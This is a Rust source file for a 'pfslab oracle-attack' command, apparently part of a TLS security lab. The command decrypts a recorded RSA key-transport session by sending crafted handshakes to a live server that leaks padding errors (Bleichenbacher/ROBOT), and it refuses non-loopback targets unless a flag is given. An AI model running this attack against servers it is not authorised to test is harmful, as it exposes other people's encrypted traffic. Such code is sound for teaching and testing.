//! `pfslab oracle-attack`: decrypt a recorded RSA key-transport session by asking a live server
//! with a padding oracle (Bleichenbacher 1998; ROBOT 2018), never holding its private key.

use std::io::IsTerminal as _;
use std::net::{SocketAddr, ToSocketAddrs};
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{bail, Context as _, Result};
use clap::Args;

use pfslab::attack::observe::KeyExchangeOnWire;
use pfslab::attack::oracle_client::{self, OraclePremaster, OracleProgress, OracleTarget};
use pfslab::attack::pipeline::{for_each_tls_connection, TlsConnection};
use pfslab::attack::{analyse, Loot, ResumptionCache};
use pfslab::codec::hex;
use pfslab::{pki, report};

use crate::cli::{output, progress};

#[derive(Args)]
pub struct OracleAttackArgs {
    /// The live server to ask (its answers must leak the padding: `pfslab server --oracle strong`).
    #[arg(long)]
    connect: String,
    /// The capture holding the session to decrypt.
    #[arg(long)]
    capture: PathBuf,
    /// The session (tcp.stream number, as in inspect and attack): an RSA key-transport session.
    #[arg(long)]
    session: u64,
    /// The server's certificate (PEM or DER) when the capture lacks it; only its public key is used.
    #[arg(long)]
    cert: Option<PathBuf>,
    /// Handshakes in flight at once.
    #[arg(long, default_value_t = 4)]
    connections: usize,
    /// Give up after this many queries.
    #[arg(long, default_value_t = 1_000_000)]
    max_queries: u64,
    /// Seconds one handshake may take.
    #[arg(long, default_value_t = 10)]
    timeout: u64,
    /// Allow a server that is not on a loopback address (only one you are allowed to attack).
    #[arg(long)]
    allow_remote: bool,
    /// Print one JSON object (route, queries, elapsed time, the session as `attack --json`).
    #[arg(long)]
    json: bool,
    /// No progress line, even on a terminal.
    #[arg(long)]
    quiet: bool,
}

pub fn run(a: OracleAttackArgs) -> Result<()> {
    // 1. The target: loopback only unless allowed (as `server --oracle`).
    let addrs: Vec<SocketAddr> = a
        .connect
        .to_socket_addrs()
        .with_context(|| format!("cannot resolve {}", a.connect))?
        .collect();
    let Some(&addr) = addrs.first() else {
        bail!("{} resolves to no address", a.connect);
    };
    if !a.allow_remote && addrs.iter().any(|s| !s.ip().is_loopback()) {
        bail!(
            "oracle-attack sends a server tens of thousands of crafted handshakes; it asks only loopback addresses, not {} (--allow-remote for a server you may attack)",
            a.connect
        );
    }

    // 2. The session: its encrypted premaster, suite and the server's public key.
    let conn = find_session(&a)?;
    let obs = &conn.session;
    let (Some(suite), KeyExchangeOnWire::RsaEncryptedPremaster(encrypted)) =
        (obs.suite, &obs.wire_key_exchange)
    else {
        bail!(
            "session {} is not an RSA key-transport session ({}): only a premaster encrypted to the server's RSA key can be decrypted with a padding oracle",
            a.session,
            match (obs.key_exchange, obs.suite) {
                (Some(k), Some(_)) => k.label().to_string(),
                (Some(k), None) => format!("{}, with a suite pfslab does not decrypt", k.label()),
                (None, _) => "no ClientKeyExchange seen".into(),
            }
        );
    };
    if !oracle_client::is_rsa_transport(&suite) {
        bail!(
            "session {} uses {}, not RSA key transport",
            a.session,
            suite.name
        );
    }
    let leaf = match &a.cert {
        Some(path) => pki::load_certificates(path)
            .context("cannot load --cert")?
            .into_iter()
            .next()
            .with_context(|| format!("{} holds no certificate", path.display()))?,
        None => obs.certificates.first().cloned().with_context(|| {
            format!(
                "session {} carries no server certificate in the capture: give --cert",
                a.session
            )
        })?,
    };
    let public = pki::parse_certificate(&leaf)
        .context("cannot read the server's certificate")?
        .public_key;
    let target = OracleTarget {
        addr,
        suite,
        public,
        connections: a.connections.max(1),
        timeout: Duration::from_secs(a.timeout.max(1)),
    };
    if !a.quiet {
        eprintln!(
            "session {}: {}, a {}-byte RSA ClientKeyExchange (RSA-{}); asking {} over {} connections",
            a.session,
            suite.name,
            encrypted.len(),
            pki::modulus_bits(&target.public),
            addr,
            target.connections
        );
    }

    // 3. The attack, with a progress line on a terminal.
    let counters = OracleProgress::default();
    let show = std::io::stderr().is_terminal() && !a.quiet;
    let found = progress::oracle_while_running(show, &counters, || {
        oracle_client::attack(&target, encrypted, a.max_queries, &counters)
    })?;
    let premaster = oracle_client::premaster_from_block(&found.block).map_err(|why| {
        anyhow::anyhow!(
            "the attack found m (m^e mod n is the recorded ciphertext), but {why}: m = {}",
            hex(&found.block)
        )
    })?;

    // 4. The recorded session, decrypted through the attacker's one `recover`.
    let mut loot = Loot::new(None, None);
    loot.padding_oracle = Some(OraclePremaster {
        encrypted: encrypted.clone(),
        premaster: premaster.clone(),
        queries: found.queries,
        elapsed_ms: found.elapsed.as_millis() as u64,
    });
    let name = a
        .capture
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let r = analyse(
        &name,
        conn.stream,
        conn.client.to_string(),
        conn.server.to_string(),
        obs,
        &loot,
        &ResumptionCache::default(),
    );
    let version = obs.client_hello.as_ref().map(|c| c.client_version);
    let starts_with_version = version.is_some_and(|v| premaster.starts_with(&v.to_be_bytes()));
    let secs = found.elapsed.as_secs_f64();
    if a.json {
        let v = serde_json::json!({
            "route": "padding-oracle",
            "server": addr.to_string(),
            "queries": found.queries,
            "probes": found.probe.probes,
            "elapsed_seconds": (secs * 1000.0).round() / 1000.0,
            "conforming_answer": found.probe.conforming.to_string(),
            "other_answer": found.probe.other.to_string(),
            "premaster": hex(&premaster),
            "session": report::session_json(&r),
        });
        output::print(format!(
            "{}\n",
            serde_json::to_string_pretty(&v).unwrap_or_default()
        ))?;
    } else {
        let mut out = String::new();
        out.push_str(&format!(
            "probe: the recorded ClientKeyExchange drew {}, random ciphertexts {} ({} probes)\n",
            found.probe.conforming, found.probe.other, found.probe.probes
        ));
        out.push_str(&format!(
            "padding oracle: {} queries in {secs:.1} s ({:.0} per second); m^e mod n equals the recorded ciphertext\n",
            found.queries,
            found.queries as f64 / secs.max(0.001)
        ));
        out.push_str(&format!(
            "m = 00 02 ‖ {} padding bytes ‖ 00 ‖ 48-byte premaster{}\n",
            found.block.len() - 3 - 48,
            if starts_with_version {
                " (it starts with the ClientHello's version)"
            } else {
                ""
            }
        ));
        out.push_str(&format!("premaster      {}\n\n", hex(&premaster)));
        out.push_str(&report::attack_table_header(false));
        out.push_str(&report::attack_table_row(&r, false));
        out.push('\n');
        out.push_str(&report::conversation(&r));
        output::print(out)?;
    }
    if !r.verdict.opened() {
        bail!(
            "the recovered premaster did not open session {}: {}",
            a.session,
            r.reason
        );
    }
    Ok(())
}

/// Session `--session` of `--capture`, or an error naming the sessions there are.
fn find_session(a: &OracleAttackArgs) -> Result<TlsConnection> {
    let mut found = None;
    let mut streams = Vec::new();
    for_each_tls_connection(&a.capture, |conn| {
        streams.push(conn.stream);
        if found.is_none() && conn.stream == a.session {
            found = Some(conn);
        }
    })
    .with_context(|| format!("cannot read {}", a.capture.display()))?;
    found.with_context(|| crate::cli::attack::no_such_session(&a.capture, a.session, &streams))
}
